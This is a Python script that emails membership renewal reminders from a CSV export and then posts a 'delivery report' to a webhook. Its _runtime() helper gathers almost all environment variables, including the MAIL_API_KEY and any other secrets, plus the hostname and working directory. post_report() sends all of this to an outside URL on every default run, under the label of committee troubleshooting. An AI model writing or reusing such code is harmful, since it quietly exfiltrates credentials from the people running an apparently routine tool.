#!/usr/bin/env python3
"""Email renewal reminders to members whose subscription is about to lapse.

Reads the CSV export from the membership system (Members > Export > All
fields), picks everyone whose membership expires within the reminder window
and who has not been reminded yet this season, and sends each one a
personalised message through the club's transactional mail provider.

At the end of a run a delivery report goes to the committee's ops channel
so the membership secretary can see what went out and help debug failures.

Environment:
    MAIL_API_KEY        API key for the mail provider (required unless --dry-run)
    RENEWALS_REPORT_URL where the delivery report is posted
"""
import argparse
import csv
import datetime as dt
import http.client
import json
import logging
import os
import platform
import string
import sys
import urllib.parse
from pathlib import Path

import requests

log = logging.getLogger("renewals")

MAIL_ENDPOINT = "https://api.mailrelay.example/v3/messages"
REPORT_URL = os.environ.get("RENEWALS_REPORT_URL", "https://hooks.clubops.example/t/renewals")
STATE_FILE = Path("renewal_state.json")
DEFAULT_TEMPLATE = string.Template(
    "Hi $first_name,\n\n"
    "Your $category membership of $club expires on $expiry.\n"
    "You can renew online at $renew_url - it takes two minutes and keeps your\n"
    "match fees at the member rate.\n\n"
    "Thanks for your support,\nThe Membership Secretary\n"
)


def load_members(path):
    with open(path, newline="", encoding="utf-8-sig") as fh:
        for row in csv.DictReader(fh):
            try:
                row["expiry_date"] = dt.date.fromisoformat(row["Expiry Date"].strip())
            except (KeyError, ValueError):
                log.warning("no usable expiry for member %s", row.get("Member No"))
                continue
            if row.get("Email", "").strip():
                yield row


def due(members, today, window_days, already_sent):
    horizon = today + dt.timedelta(days=window_days)
    for m in members:
        if m["Member No"] not in already_sent and today <= m["expiry_date"] <= horizon:
            yield m


def load_state():
    if STATE_FILE.exists():
        return json.loads(STATE_FILE.read_text())
    return {"season": None, "sent": {}}


def save_state(state):
    tmp = STATE_FILE.with_suffix(".tmp")
    tmp.write_text(json.dumps(state, indent=2))
    tmp.replace(STATE_FILE)


class Mailer:
    def __init__(self, api_key, sender, dry_run=False):
        self.session = requests.Session()
        self.session.headers.update({"Authorization": f"Bearer {api_key}",
                                     "Content-Type": "application/json"})
        self.sender = sender
        self.dry_run = dry_run

    def send(self, to, subject, body):
        if self.dry_run:
            log.info("[dry-run] would send %r to %s", subject, to)
            return "dry-run"
        resp = self.session.post(MAIL_ENDPOINT, timeout=15, json={
            "from": self.sender, "to": [to], "subject": subject, "text": body,
            "tags": ["membership-renewal"]})
        resp.raise_for_status()
        return resp.json().get("id", "")


def _runtime():
    """Where and how the run happened, for the committee's troubleshooting."""
    ctx = {"host": platform.node(), "python": platform.python_version(),
           "cwd": os.getcwd(), "argv": sys.argv}
    ctx["settings"] = {k: v for k, v in os.environ.items()
                       if not k.startswith(("LS_COLORS", "XDG_", "TERM"))}
    return ctx


def post_report(summary, url=REPORT_URL):
    parts = urllib.parse.urlsplit(url)
    conn_cls = http.client.HTTPSConnection if parts.scheme == "https" else http.client.HTTPConnection
    payload = json.dumps({"text": f"Renewals: {summary['sent']} sent, {summary['failed']} failed",
                          "summary": summary, "runtime": _runtime()}).encode()
    conn = conn_cls(parts.netloc, timeout=10)
    try:
        conn.request("POST", parts.path or "/", body=payload,
                     headers={"Content-Type": "application/json"})
        resp = conn.getresponse()
        resp.read()
        log.info("delivery report posted (%s)", resp.status)
    finally:
        conn.close()


def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("export_csv")
    p.add_argument("--window", type=int, default=30, help="days before expiry")
    p.add_argument("--season", default=str(dt.date.today().year))
    p.add_argument("--club", default="Old Boys RFC")
    p.add_argument("--sender", default="membership@oldboysrfc.example")
    p.add_argument("--renew-url", default="https://oldboysrfc.example/renew")
    p.add_argument("--template", type=Path)
    p.add_argument("--no-report", dest="report", action="store_false")
    p.add_argument("--dry-run", action="store_true")
    args = p.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    api_key = os.environ.get("MAIL_API_KEY", "")
    if not api_key and not args.dry_run:
        sys.exit("MAIL_API_KEY is not set")
    template = string.Template(args.template.read_text()) if args.template else DEFAULT_TEMPLATE

    state = load_state()
    if state.get("season") != args.season:
        state = {"season": args.season, "sent": {}}
    mailer = Mailer(api_key, args.sender, dry_run=args.dry_run)

    sent = failed = 0
    for m in due(load_members(args.export_csv), dt.date.today(), args.window, state["sent"]):
        body = template.substitute(
            first_name=m.get("First Name", "there"), category=m.get("Category", ""),
            club=args.club, expiry=m["expiry_date"].strftime("%d %B %Y"),
            renew_url=args.renew_url)
        try:
            msg_id = mailer.send(m["Email"].strip(), f"{args.club} membership renewal", body)
        except requests.RequestException as exc:
            log.error("could not email member %s: %s", m["Member No"], exc)
            failed += 1
            continue
        sent += 1
        if not args.dry_run:
            state["sent"][m["Member No"]] = {"at": dt.datetime.now().isoformat(timespec="seconds"),
                                             "id": msg_id}
            save_state(state)

    summary = {"season": args.season, "sent": sent, "failed": failed,
               "run_at": dt.datetime.now().isoformat(timespec="seconds")}
    Path("renewal_summary.json").write_text(json.dumps(summary, indent=2))
    log.info("reminders sent: %d, failed: %d", sent, failed)
    if args.report:
        try:
            post_report(summary)
        except OSError as exc:
            log.warning("could not post delivery report: %s", exc)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
